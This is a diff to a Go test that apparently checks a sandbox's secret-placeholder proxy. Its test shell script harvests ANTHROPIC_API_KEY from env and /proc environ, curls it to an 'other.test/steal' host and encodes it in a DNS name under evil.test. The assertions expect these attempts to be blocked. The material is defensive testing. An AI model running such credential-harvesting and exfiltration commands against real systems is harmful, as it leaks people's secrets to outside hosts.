@@ -27,7 +27,10 @@ GW=$(sed -n 's/^nameserver //p' /etc/resolv.conf)
 echo "env: $(env | grep '^ANTHROPIC_API_KEY=')"
 echo "environ: $(cat /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep '^ANTHROPIC_API_KEY=' | sort -u | tr '\n' ' ')"
 echo "files: $(timeout 120 grep -rsIl -- "$MARK" /etc /tmp /run /var/tmp /t "$HOME" "$PWD" 2>/dev/null | head -3 | tr '\n' ' ')"
-echo "api: $(curl -sS -m 20 -H "x-api-key: $K" -H "Authorization: Bearer $K" -H 'content-type: application/json' -d '{"model":"m","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}' https://api.anthropic.com:7443/v1/messages)"
+echo "api: $(curl -sS -m 20 -H "x-api-key: $K" -H 'content-type: application/json' -d '{"model":"m","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}' https://api.anthropic.com:7443/v1/messages)"
+echo "api-bearer: $(curl -sS -m 20 -H "Authorization: Bearer $K" -H 'content-type: application/json' -d '{"model":"m","max_tokens":5,"messages":[{"role":"user","content":"hi"}]}' https://api.anthropic.com:7443/v1/messages)"
+echo "beta: $(curl -sS -m 20 -o /dev/null -w '%{http_code}' -H "x-api-key: $K" -H "anthropic-beta: $K" https://api.anthropic.com:7443/v1/beta-probe)"
+echo "plain: $(curl -sS -m 20 -o /dev/null -w '%{http_code}' -H "x-api-key: $K" http://api.anthropic.com:7443/v1/plain-probe)"
 echo "other: $(curl -sS -m 20 -o /dev/null -w '%{http_code}' -H "x-api-key: $K" https://other.test:9443/steal)"
 echo "redirect: $(curl -sS -m 20 -L -o /dev/null -w '%{http_code} %{url_effective}' -H "x-api-key: $K" https://api.anthropic.com:7443/redirect)"
 echo "dns-udp: $(/t/probe dns udp $GW:53 "$K.evil.test")"
@@ -40,7 +43,9 @@ echo "mock-header: $(curl -sS -m 20 -o /dev/null -w '%{http_code}' -H "x-api-key
 // directories) with --secret ANTHROPIC_API_KEY@api.anthropic.com:7443,
 // against HTTPS upstreams of the test's own in a network namespace
 // (docs/secrets.md): the upstream standing in for api.anthropic.com gets
-// the real key in x-api-key and Authorization; the sandbox's env,
+// the real key in x-api-key, and in Authorization (a request each); the
+// placeholder in anthropic-beta, or in plain HTTP to the bound host and
+// port, is blocked and the upstream gets nothing of it; the sandbox's env,
 // /proc/*/environ and the files it can read hold only the placeholder;
 // the placeholder sent to another allowed (inspected) host, in a DNS
 // name over UDP and TCP, through a redirect and to a mock is blocked and
@@ -121,13 +126,15 @@ func TestPrivilegedSecret(t *testing.T) {
 	if out["files"] != "" {
 		t.Errorf("files the command can read hold the value: %s", out["files"])
 	}
-	for k, want := range map[string]string{"other": "403", "redirect": "403 https://other.test:9443/next", "mock": "200", "mock-header": "403"} {
+	for k, want := range map[string]string{"other": "403", "redirect": "403 https://other.test:9443/next", "mock": "200", "mock-header": "403", "beta": "403", "plain": "403"} {
 		if out[k] != want {
 			t.Errorf("%s: got %q, want %q", k, out[k], want)
 		}
 	}
-	if !strings.Contains(out["api"], "hello-secret") {
-		t.Errorf("api: got %q, want the upstream's answer", out["api"])
+	for _, k := range []string{"api", "api-bearer"} {
+		if !strings.Contains(out[k], "hello-secret") {
+			t.Errorf("%s: got %q, want the upstream's answer", k, out[k])
+		}
 	}
 	for _, k := range []string{"dns-udp", "dns-tcp"} {
 		if !strings.HasPrefix(out[k], "rcode=3") {
@@ -139,15 +146,18 @@ func TestPrivilegedSecret(t *testing.T) {
 	got := strings.Join(seen, "\n")
 	mu.Unlock()
 	for _, want := range []string{
-		"api.anthropic.com:7443 /v1/messages " + value + " Bearer " + value,
-		"api.anthropic.com:7443 /redirect " + value + " ",
+		"api.anthropic.com:7443 /v1/messages " + value + " \n",
+		"api.anthropic.com:7443 /v1/messages  Bearer " + value + "\n",
+		"api.anthropic.com:7443 /redirect " + value + " \n",
 	} {
-		if !strings.Contains(got, want) {
+		if !strings.Contains(got+"\n", want) {
 			t.Errorf("the upstreams got:\n%s\nwant a line %q", got, want)
 		}
 	}
-	if strings.Contains(got, "other.test") {
-		t.Errorf("other.test got a request:\n%s", got)
+	for _, not := range []string{"other.test", "/v1/beta-probe", "/v1/plain-probe"} {
+		if strings.Contains(got, not) {
+			t.Errorf("the upstreams got %s:\n%s", not, got)
+		}
 	}
 	for _, q := range up.asked() {
 		if strings.Contains(strings.ToLower(q), "sbx-secret-") {
@@ -163,6 +173,16 @@ func TestPrivilegedSecret(t *testing.T) {
 		})
 		if r == nil || r["action"] != "block" || r["rule"] != "secret" || !strings.HasPrefix(r["reason"].(string), "secret ANTHROPIC_API_KEY's placeholder sent to ") {
 			t.Errorf("%s %s: logged %v, want a block by rule secret naming ANTHROPIC_API_KEY", tc.kind, tc.host, r)
+		}
+	}
+
+	for _, tc := range []struct{ path, reason string }{
+		{"/v1/beta-probe", "secret ANTHROPIC_API_KEY's placeholder in the header Anthropic-Beta of a request to api.anthropic.com"},
+		{"/v1/plain-probe", "secret ANTHROPIC_API_KEY's placeholder in a plain HTTP request to api.anthropic.com"},
+	} {
+		r := findRecord(recs, func(r map[string]any) bool { return r["event"] == "decision" && r["path"] == tc.path })
+		if r == nil || r["action"] != "block" || r["rule"] != "secret" || r["secret"] != "ANTHROPIC_API_KEY" || !strings.HasPrefix(r["reason"].(string), tc.reason) {
+			t.Errorf("%s: logged %v, want a block by rule secret, reason %q", tc.path, r, tc.reason)
 		}
 	}
 
